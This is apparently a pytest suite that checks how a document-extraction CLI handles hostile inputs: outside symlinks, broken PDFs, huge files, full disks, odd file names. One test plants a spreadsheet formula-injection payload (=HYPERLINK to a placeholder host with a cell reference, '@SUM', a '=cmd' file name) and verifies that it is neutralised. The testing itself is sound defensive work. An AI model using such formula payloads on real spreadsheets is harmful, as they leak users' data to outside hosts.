"""Hostile inputs, settings and folders of ``testimony run``, through the real CLI.

- ``--max-memory`` below what the models need is one message saying how much they
  need, exit 2, no traceback, the output folder as it was;
- a PDF whose pages hold nothing but page numbers is an error row saying so, not
  ``ok`` with no text and no word of why;
- symbolic links out of the input folder and broken ones are error rows (``/etc/passwd``
  is never read), unless ``--follow-links``; a huge file of a kind we do not read is
  reported without hashing it;
- formulas and control characters reach CSV and XLSX as text;
- a full or read-only output folder is one message and loses nothing;
- file names of any legal length, or named like the output's own files, work and rerun.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

from reportlab.pdfgen.canvas import Canvas

import pytest

from conftest import RAW, REPO
import test_hostile_reports
from test_hostile_reports import NO_MOUNT, cli_args, in_small_filesystem
from pipeline.tables import read_table

STATEMENT = RAW / "000_6fb061e0297f36b6.txt"


def run_cli(*args) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "pipeline.cli", "run", *map(str, args), "-q"],
                          cwd=REPO, capture_output=True, text=True)


def contents(out: Path) -> dict[Path, bytes]:
    """Every file of an output folder but the lock a run takes (it names the last holder)."""
    return {p: p.read_bytes() for p in out.rglob("*") if p.is_file() and p.name != "lock"}


def test_a_memory_limit_below_the_models_says_what_they_need(tmp_path):
    folder, out = tmp_path / "in", tmp_path / "out"
    folder.mkdir()
    (folder / "statement.txt").write_bytes(STATEMENT.read_bytes())
    assert run_cli(folder, "-o", out).returncode == 0
    (folder / "second.txt").write_bytes(STATEMENT.read_bytes()[:2000])
    result = run_cli(folder, "-o", out, "--max-memory", "200")
    assert result.returncode in (0, 1), result.stderr
    assert "Traceback" not in result.stderr and "ImportError" not in result.stderr + result.stdout
    row = read_table(out, "documents").set_index("doc_id").loc["second"]
    # the worker runs on what it forked with; if the file needs more, the row says why
    assert row.status == "ok" or "--max-memory 200 MB is too low for the models: a worker needs at least" in row.error
    assert read_table(out, "documents").set_index("doc_id").loc["statement", "status"] == "ok"


def numbered_pages(path: Path, n_pages: int) -> None:
    """A PDF whose every page holds one line: its number."""
    canvas = Canvas(str(path))
    for number in range(1, n_pages + 1):
        canvas.drawString(290, 40, str(number))
        canvas.showPage()
    canvas.save()


def test_pages_of_nothing_but_page_numbers_are_an_error_saying_so(tmp_path):
    folder, out = tmp_path / "in", tmp_path / "out"
    folder.mkdir()
    numbered_pages(folder / "numbers.pdf", 150)
    (folder / "statement.txt").write_bytes(STATEMENT.read_bytes())
    result = run_cli(folder, "-o", out)
    assert result.returncode == 1, result.stderr
    documents = read_table(out, "documents").set_index("doc_id")
    assert documents.loc["statement", "status"] == "ok"
    assert documents.loc["numbers", "status"] == "error"
    assert "no text on any of 150 page(s) besides page numbers" in documents.loc["numbers", "error"]


def statement_folder(folder: Path) -> Path:
    folder.mkdir(parents=True)
    (folder / "statement.txt").write_bytes(STATEMENT.read_bytes())
    return folder


def test_symbolic_links_out_of_the_folder_are_error_rows(tmp_path):
    folder = statement_folder(tmp_path / "in")
    secret = tmp_path / "secret.txt"
    secret.write_text("Пароль администратора: 12345.", encoding="utf-8")
    elsewhere = statement_folder(tmp_path / "elsewhere")
    (folder / "leaks.txt").symlink_to(secret)
    (folder / "broken.txt").symlink_to(tmp_path / "nowhere.txt")
    (folder / "linked").symlink_to(elsewhere)
    (folder / "inside.txt").symlink_to(folder / "statement.txt")  # stays in the tree: read
    out = tmp_path / "out"
    result = run_cli(folder, "-o", out)
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    documents = read_table(out, "documents").set_index("doc_id")
    assert documents.status.to_dict() == {"statement": "ok", "inside": "ok", "leaks": "error",
                                          "broken": "error", "linked": "error"}
    assert "a symbolic link to " + str(secret) in documents.loc["leaks", "error"]
    assert "--follow-links" in documents.loc["leaks", "error"]
    assert "broken symbolic link" in documents.loc["broken", "error"]
    assert "outside the input folder" in documents.loc["linked", "error"]
    assert not any("Пароль" in p.read_text(encoding="utf-8") for p in (out / "texts").iterdir())
    allowed = tmp_path / "allowed"
    assert run_cli(folder, "-o", allowed, "--follow-links").returncode == 1  # the broken link stays an error
    documents = read_table(allowed, "documents").set_index("doc_id")
    assert documents.loc["leaks", "status"] == "ok" and documents.loc["broken", "status"] == "error"
    read_there = documents[documents.source.str.contains("linked")]  # the linked folder's statement
    assert len(documents) == 5 and read_there.status.tolist() == ["ok"]


def test_a_huge_file_of_a_kind_we_do_not_read_is_reported_unread(tmp_path):
    folder = statement_folder(tmp_path / "in")
    with open(folder / "recording.mp4", "wb") as f:
        f.truncate(2**40)  # a sparse terabyte: hashing it would take many minutes
    out = tmp_path / "out"
    result = subprocess.run([sys.executable, "-m", "pipeline.cli", "run", str(folder), "-o", str(out), "-q",
                             "--timeout", "10"], cwd=REPO, capture_output=True, text=True, timeout=240)
    assert result.returncode == 1, result.stderr
    row = read_table(out, "documents").set_index("doc_id").loc["recording"]
    assert row.status == "error" and "cannot read .mp4" in row.error and row.sha256 is None


def test_formulas_and_control_characters_reach_spreadsheets_as_text(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    hostile = ('=HYPERLINK("http://example.invalid/?"&A1,"Подробнее") 24 марта 2012 года в Алматы '
               "задержана Бахыт\x1b Туменова.\x01\n@SUM(1+1) Её оштрафовали на 80900 тенге.\n")
    (folder / "=cmd.txt").write_text(hostile, encoding="utf-8")
    out = tmp_path / "out"
    assert run_cli(folder, "-o", out, "--csv").returncode == 0
    documents_csv = (out / "documents.csv").read_text(encoding="utf-8")
    assert "\n'=cmd," in documents_csv  # the OWASP apostrophe on the doc_id
    sentences_csv = (out / "sentences.csv").read_text(encoding="utf-8")
    assert '"\'=HYPERLINK(' in sentences_csv and "'@SUM(1+1)" in sentences_csv
    from pipeline.tables import read_tables
    csv_only = tmp_path / "csv_only"
    csv_only.mkdir()
    for name in ("documents", "sentences", "mentions", "events", "event_arguments"):
        (csv_only / f"{name}.csv").write_bytes((out / f"{name}.csv").read_bytes())
    back = read_tables(csv_only)
    assert back["documents"].doc_id.tolist() == ["=cmd"]
    assert back["sentences"].text.iloc[0].startswith('=HYPERLINK(')
    workbook = tmp_path / "tables.xlsx"
    result = subprocess.run([sys.executable, "-m", "pipeline.cli", "export", str(out), "--format", "xlsx",
                             "-o", str(workbook)], cwd=REPO, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    from openpyxl import load_workbook

    sheet = load_workbook(workbook)["sentences"]
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" for c in cells)  # text, never a live formula
    assert any("␛" in str(c.value) for row in sheet.iter_rows() for c in row)


@pytest.mark.skipif(NO_MOUNT is not None, reason=str(NO_MOUNT))
@pytest.mark.parametrize("mode, reason", [("full", "No space left on device"), ("readonly", "Read-only file system")])
def test_a_full_or_read_only_output_folder_is_one_message_and_loses_nothing(tmp_path, mode, reason):
    mnt = tmp_path / "mnt"
    first, second = statement_folder(tmp_path / "first"), tmp_path / "second"
    second.mkdir()
    (second / "другое.txt").write_bytes(STATEMENT.read_bytes()[:3000])
    commands = [cli_args("run", first, "-o", mnt / "out", "-q"),  # the archive that must survive
                cli_args("run", second, "-o", mnt / "out", "-q"),
                cli_args("export", mnt / "out", "--format", "csv", "-o", mnt / "csv")]
    # the lock an archive's writer takes names its last holder: every file but it must be kept
    script = test_hostile_reports.IN_NAMESPACE.replace('if f != "filler"', 'if f not in ("filler", "lock")')
    script = script.replace("for d, _, fs in os.walk(mnt) for f in fs}", "for d, _, fs in os.walk(mnt) for f in fs if f != 'lock'}", 1)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(test_hostile_reports, "IN_NAMESPACE", script)
        found = in_small_filesystem(tmp_path, mode, [list(map(str, c)) for c in commands], size_kb=4096)
    for command, result in zip(commands[1:], found["results"]):
        said = result["stderr"]
        assert result["rc"] in (1, 2), (command, result)
        assert "Traceback" not in said, said
        assert reason in said and str(mnt) in said, (command, said)
    assert found["kept"], "the archive written before is intact"
    assert not [n for n in found["names"] if n.endswith(".tmp")], found["names"]


def test_file_names_of_any_legal_length_or_like_the_outputs_own_files(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    names = ["tables", "documents", "lock", "registry", "з" * 125]  # the last: 254 bytes with .txt
    for name in names:
        (folder / f"{name}.txt").write_bytes(STATEMENT.read_bytes()[:1500])
    out = tmp_path / "out"
    first, second = run_cli(folder, "-o", out), run_cli(folder, "-o", out)
    assert first.returncode == 0 and second.returncode == 0, first.stderr + second.stderr
    assert "5 unchanged since the last run" in second.stdout + second.stderr  # each one's result kept
    documents = read_table(out, "documents")
    assert documents.status.tolist() == ["ok"] * 5
    assert all(len(p.name.encode()) <= 255 for p in (out / "texts").iterdir())
    assert len(list((out / "texts").iterdir())) == 10
